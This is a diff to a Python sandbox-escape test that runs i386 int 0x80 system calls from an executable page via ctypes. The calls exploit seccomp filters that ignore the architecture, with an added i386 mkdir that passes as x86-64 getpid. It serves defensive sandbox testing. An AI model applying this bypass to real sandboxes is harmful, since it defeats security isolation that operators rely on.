@@ -4,9 +4,9 @@ A seccomp filter that does not check the architecture reads an i386 call
 made with int 0x80 as the x86-64 call of the same number: i386 socketcall
 (102) passes as getuid, i386 open (5) as fstat. The bot maps an executable
 page below 2 GB, writes machine code that makes i386 system calls there and
-calls it through ctypes: getpid, then socket + connect to the escape
-driver's TCP listener through socketcall, then open(O_CREAT) of a marker on
-/tmp. It also tries an x32-ABI getpid. The sandbox must kill on the first
+calls it through ctypes: mkdir (39, x86-64 getpid), socket + connect to
+the escape driver's TCP listener through socketcall, open(O_CREAT) of a
+marker on /tmp, getpid. It also tries an x32-ABI getpid. The sandbox must kill on the first
 non-native call (verdict `illegal`).
 """
 import os
@@ -80,10 +80,14 @@ def attack():
         ctypes.memmove(page, code, len(code))
         return ctypes.CFUNCTYPE(ctypes.c_long)(page)()
 
-    pid = call32(20)  # i386 getpid
-    note('int 0x80 getpid -> %d (real pid %d)' % (pid, os.getpid()))
-    if pid > 0:
-        evidence('an i386 system call (getpid) ran')
+    # First an i386 call whose number is an allowed x86-64 call: i386 mkdir
+    # (39) is x86-64 getpid. A filter blind to the architecture lets it run.
+    path = ('/tmp/%s-int80dir\0' % CFG.get('token', 'cfesc')).encode()
+    ctypes.memmove(data + 256, path, len(path))
+    r = call32(39, data + 256, 0o755)
+    note('int 0x80 mkdir -> %d' % r)
+    if r == 0 or r == -17:  # created, or EEXIST: the call ran as mkdir
+        evidence('an i386 mkdir ran (returned %d)' % r)
     if CFG.get('tcp_port'):
         ctypes.memmove(data, struct.pack('<III', 2, 1, 0), 12)          # AF_INET, STREAM
         fd = call32(102, 1, data)                                        # socketcall(SOCKET)
@@ -102,6 +106,10 @@ def attack():
     ctypes.memmove(data + 128, path, len(path))
     fd = call32(5, data + 128, 0o101, 0o644)                             # open(O_CREAT|O_WRONLY)
     note('int 0x80 open(O_CREAT) -> %d' % fd)
+    pid = call32(20)  # i386 getpid
+    note('int 0x80 getpid -> %d (real pid %d)' % (pid, os.getpid()))
+    if pid > 0:
+        evidence('an i386 system call (getpid) ran')
     x32 = lib.syscall(0x40000000 | 39)                                   # x32 getpid
     note('x32 getpid -> %d errno %d' % (x32, ctypes.get_errno()))
     if x32 > 0:
